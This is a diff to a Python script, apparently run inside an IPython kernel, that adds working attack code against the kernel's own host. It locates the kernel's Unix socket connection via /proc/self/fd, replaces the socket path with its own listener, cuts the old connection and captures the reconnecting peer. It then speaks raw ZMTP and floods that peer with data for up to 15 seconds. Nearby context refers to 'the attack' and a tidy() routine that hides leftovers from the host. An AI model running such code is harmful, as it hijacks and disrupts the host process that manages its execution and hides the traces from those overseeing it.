@@ -102,6 +102,62 @@ def stay(action):
 staying: list[int] = []
 
 
+def socket_path(channel):
+    """Return the path of one of this kernel's own sockets."""
+    app = get_ipython().kernel.parent  # noqa: F821 - IPython's
+    return f"{app.ip}-{getattr(app, channel + '_port')}"
+
+
+def connection_of(channel):
+    """Return the connection to the host on one of this kernel's own sockets."""
+    path = socket_path(channel)
+    for number in os.listdir("/proc/self/fd"):
+        with contextlib.suppress(OSError):
+            own = socket.socket(fileno=os.dup(int(number)))
+            listens = own.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
+            if own.family == socket.AF_UNIX and own.getsockname() == path and not listens:
+                return own
+    raise FileNotFoundError(2, f"no connection on {channel}")
+
+
+def another_peer(channel):
+    """Listen in the place of an own socket, end the connection, and return who comes back."""
+    path, old = socket_path(channel), connection_of(channel)
+    os.unlink(path)
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(path)
+    listener.listen(8)
+    listener.settimeout(3)
+    old.shutdown(socket.SHUT_RDWR)
+    peer, _ = listener.accept()
+    return peer
+
+
+def zmtp_greeting():
+    """Return what a ZMTP peer says first."""
+    return b"\xff" + bytes(8) + b"\x7f\x03\x01" + b"NULL".ljust(20, b"\0") + bytes(32)
+
+
+def zmtp_frame(body, flags=1):
+    """Return a frame; by default one after which the message goes on."""
+    if len(body) < 256:
+        return bytes([flags, len(body)]) + body
+    return bytes([flags | 2]) + struct.pack(">Q", len(body)) + body
+
+
+def send_endlessly(peer, data, first=b"", most_mb=1200):
+    """Send the same again and again, for as long as it is taken and within 15 s."""
+    import select
+
+    until, sent, left = time.monotonic() + 15, 0, first + data
+    while time.monotonic() < until and sent < most_mb << 20:
+        if select.select([], [peer], [], 0.5)[1]:
+            with contextlib.suppress(BlockingIOError):
+                count = peer.send(left)
+                sent, left = sent + count, left[count:] or data
+    return f"{sent >> 20} MB went through"
+
+
 def tidy():
     """End what the attack before left for the host to see."""
     while kept:
